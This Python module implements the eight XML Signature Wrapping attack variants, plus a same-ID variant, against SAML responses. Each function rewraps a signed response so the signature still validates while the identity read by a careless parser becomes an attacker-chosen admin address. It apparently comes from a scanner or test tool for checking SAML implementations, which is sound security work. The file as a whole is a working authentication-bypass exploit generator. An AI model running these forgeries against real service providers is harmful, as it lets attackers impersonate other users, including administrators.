"""The eight known positions of XML signature wrapping.

From "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky and others, USENIX Security 2012), under the numbers by
which scanners know them. In each, what was signed is still there under its ID and unchanged, but a reader that looks
elsewhere finds the name that the attacker wants.
"""

from collections.abc import Callable
from copy import deepcopy
from typing import Final

from lxml import etree

SAMLP: Final = "urn:oasis:names:tc:SAML:2.0:protocol"
DS: Final = "http://www.w3.org/2000/09/xmldsig#"
NAMES: Final = {"saml": "urn:oasis:names:tc:SAML:2.0:assertion", "samlp": SAMLP, "ds": DS}
COVETED: Final = "admin@alder.example"
EVIL_ID: Final = "_evil"

Change = Callable[[etree._Element], bytes]


def first(root: etree._Element, path: str) -> etree._Element:
    found: etree._Element = root.xpath(path, namespaces=NAMES)[0]
    return found


def text_of(root: etree._Element) -> bytes:
    return bytes(etree.tostring(root, encoding="utf-8"))


def duplicate(element: etree._Element) -> etree._Element:
    """A copy, right behind."""
    copy = deepcopy(element)
    element.addnext(copy)
    return copy


def _signature(element: etree._Element) -> etree._Element:
    return first(element, "./ds:Signature")


def _unsigned(element: etree._Element) -> etree._Element:
    """A copy without its signature: what the reference of an enveloped signature is computed over."""
    copy = deepcopy(element)
    copy.remove(_signature(copy))
    return copy


def _forged(element: etree._Element, identity: str = EVIL_ID) -> etree._Element:
    """The element itself, saying that its subject is the one the attacker wants to be."""
    element.set("ID", identity)
    for value in element.xpath(
        ".//saml:NameID | .//saml:Attribute[@Name='email']/saml:AttributeValue", namespaces=NAMES
    ):
        value.text = COVETED
    return element


def _assertion(root: etree._Element) -> etree._Element:
    return first(root, "/samlp:Response/saml:Assertion")


def xsw1(root: etree._Element) -> bytes:
    """A forged response around the signature, which holds the signed response."""
    signed = _unsigned(root)
    _signature(_forged(root)).append(signed)
    return text_of(root)


def xsw2(root: etree._Element) -> bytes:
    """A forged response, the signed one in it before the signature."""
    signed = _unsigned(root)
    _signature(_forged(root)).addprevious(signed)
    return text_of(root)


def xsw3(root: etree._Element) -> bytes:
    """A forged assertion before the signed one."""
    assertion = _assertion(root)
    assertion.addprevious(_forged(_unsigned(assertion)))
    return text_of(root)


def xsw4(root: etree._Element) -> bytes:
    """A forged assertion around the signed one."""
    assertion = _assertion(root)
    forged = _forged(_unsigned(assertion))
    root.append(forged)
    forged.append(assertion)
    return text_of(root)


def xsw5(root: etree._Element) -> bytes:
    """A forged assertion with the signature, the signed one without it at the end."""
    assertion = _assertion(root)
    root.append(_unsigned(assertion))
    _forged(assertion)
    return text_of(root)


def xsw6(root: etree._Element) -> bytes:
    """A forged assertion with the signature, which holds the signed one."""
    assertion = _assertion(root)
    signed = _unsigned(assertion)
    _signature(_forged(assertion)).append(signed)
    return text_of(root)


def _among_extensions(root: etree._Element, identity: str) -> bytes:
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    first(root, "/samlp:Response/samlp:Status").addprevious(extensions)
    extensions.append(_forged(_unsigned(_assertion(root)), identity))
    return text_of(root)


def xsw7(root: etree._Element) -> bytes:
    """A forged assertion among the extensions, where a schema allows anything."""
    return _among_extensions(root, EVIL_ID)


def xsw7_same_id(root: etree._Element) -> bytes:
    """The same under the signed one's ID: a reference to it leads to two places."""
    return _among_extensions(root, _assertion(root).get("ID"))


def xsw8(root: etree._Element) -> bytes:
    """A forged assertion with the signature, the signed one in an Object of it, where a schema allows anything."""
    assertion = _assertion(root)
    signed = _unsigned(assertion)
    etree.SubElement(_signature(_forged(assertion)), f"{{{DS}}}Object").append(signed)
    return text_of(root)


# Which part is signed, and what is done to it.
POSITIONS: Final[dict[str, tuple[str, Change]]] = {
    "xsw1": ("response", xsw1),
    "xsw2": ("response", xsw2),
    "xsw3": ("assertion", xsw3),
    "xsw4": ("assertion", xsw4),
    "xsw5": ("assertion", xsw5),
    "xsw6": ("assertion", xsw6),
    "xsw7": ("assertion", xsw7),
    "xsw7_same_id": ("assertion", xsw7_same_id),
    "xsw8": ("assertion", xsw8),
}
